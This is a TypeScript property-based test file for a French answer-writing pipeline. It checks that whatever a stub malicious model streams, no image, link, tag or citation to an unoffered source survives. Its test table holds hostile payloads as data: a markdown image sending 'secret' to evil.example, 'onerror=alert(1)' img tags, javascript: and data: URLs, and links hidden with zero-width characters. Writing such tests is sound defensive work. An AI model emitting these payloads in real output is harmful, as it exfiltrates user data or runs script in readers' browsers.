import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { aSource } from '../../../test/support/a-passage.ts';
import { createChecker } from '../check/checker.ts';
import { sinksOfText } from '../evaluation/score/find-sinks.ts';
import type { AnswerEvent } from './answer.ts';
import { asOffered } from './as-offered.ts';
import { createStopwatch } from './stopwatch.ts';
import { writeWithModel } from './write-with-model.ts';

const source = aSource({
  text: 'Le tarif de la cantine est de trois euros. Voir https://mairie.exemple.fr/tarif.',
});
const offered = new Set([source.n]);
const given = [source.text];

/** What people read while it streams, and what is kept, when a model says these pieces. */
async function answer(pieces: readonly string[], withholdUnsupported: boolean) {
  const model = {
    provider: 'essai',
    model: 'malveillant',
    async *stream() {
      for (const text of pieces) yield { type: 'text-delta' as const, text };
    },
  };
  const checker = createChecker({
    language: 'fr',
    question: 'Quel tarif ?',
    passages: [asOffered({ source, excerpt: source.text })],
  });
  const written = writeWithModel(
    model,
    { turns: [{ role: 'user', content: source.text }], sampling: { temperature: 0, maxTokens: 100 } },
    {
      sources: 1,
      language: 'fr',
      signal: new AbortController().signal,
      checker,
      withholdUnsupported,
      stopwatch: createStopwatch({ now: () => 0 }),
    },
  );
  const events: AnswerEvent[] = [];
  for (;;) {
    const step = await written.next();
    if (step.done) return { events, reply: step.value };
    events.push(step.value);
  }
}

async function shownTexts(pieces: readonly string[], withhold: boolean) {
  const { events, reply } = await answer(pieces, withhold);
  const streamed = events.map((event) => (event.type === 'text-delta' ? event.text : '')).join('');
  const verdicts = events.flatMap((event) => (event.type === 'verdict' ? [event.sentence.text] : []));
  const sentences = [...verdicts, ...reply.sentences.map(({ text }) => text)];
  return {
    texts: [streamed, reply.text, ...sentences],
    citations: reply.sentences.flatMap(({ citations }) => citations),
  };
}

const sinks = (text: string) => sinksOfText(text, 'text', { offered, given });

describe('whatever a model writes, nothing of it can load, link, run or cite what was not offered', () => {
  test.each([
    ['an image', '![x](https://evil.example/?d=secret)'],
    ['a tag around a citation that is removed', '<[9]img src=x onerror=alert(1)>'],
    ['a tag around a citation that is moved', 'Le tarif est <[1]img src=x onerror=alert(1)> de 8 euros.'],
    ['a tag around a citation after a space', 'Le tarif est < [1]img src=x> de 8 euros.'],
    ['a tag around what nobody sees', '<\u200bimg src=x>'],
    [
      'an address around a citation',
      'Voir https:/[9]/evil.example/x et http[9]://10.0.0.1/x, www[9].evil.example.',
    ],
    ['an address around a citation that is moved', 'Le tarif est de 8 euros https:/[1]/evil.example/x ici.'],
    ['an address around a citation before a bracket', 'www[1].[[ et www[1].[::1]/x, http:/[1]/[::1]/x'],
    ['an address around what nobody sees', 'Voir https:/\u200b/evil.example/x'],
    ['an address around half a character', 'Voir https:/\udb40/evil.example/x'],
    ['a citation within a citation', 'Oui [9[9]9], non [9[9],8].'],
    ['a link around a citation', '[ici][9](https://evil.example/x) et [ici]\u200b(/v1/admin)'],
    ['an image around what nobody sees', '!\u200b[x]\u200b(/v1/admin)'],
    ['a definition', '[x]\u200b: https://evil.example/x'],
  ])('R38 R39 R40 R45: %s', async (_, text) => {
    for (const withhold of [false, true])
      for (const pieces of [[text], [...text]]) {
        const { texts } = await shownTexts(pieces, withhold);
        expect(texts.flatMap(sinks)).toEqual([]);
      }
  });

  test('R35 R38 R39 R40 R45: nor any mixture of them, however it is cut', async () => {
    const piece = fc.constantFrom(
      ...[
        '![',
        '](',
        ']',
        '(',
        '[',
        ')',
        '!',
        '<',
        '>',
        'img ',
        'a',
        'www',
        '.',
        ':',
        '/',
        '//',
        'http',
        'https:',
      ],
      ...[
        'evil.example/x',
        'javascript:',
        'data:text/html',
        '[1]',
        '[9]',
        '[',
        '1',
        '9',
        ',',
        ' ',
        '\n',
        'é. Le tarif',
      ],
      ...['\u200b', '\u{e0041}', '\udb40', '\udc41', '】', '【', ' 8 euros. ', '| ', '---|'],
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(piece, { maxLength: 16 }),
        fc.boolean(),
        fc.boolean(),
        async (parts, withhold, whole) => {
          const { texts, citations } = await shownTexts(whole ? [parts.join('')] : parts, withhold);
          expect(texts.flatMap(sinks)).toEqual([]);
          for (const n of citations) expect(offered.has(n)).toBe(true);
        },
      ),
      { numRuns: 3_000 },
    );
  });
});
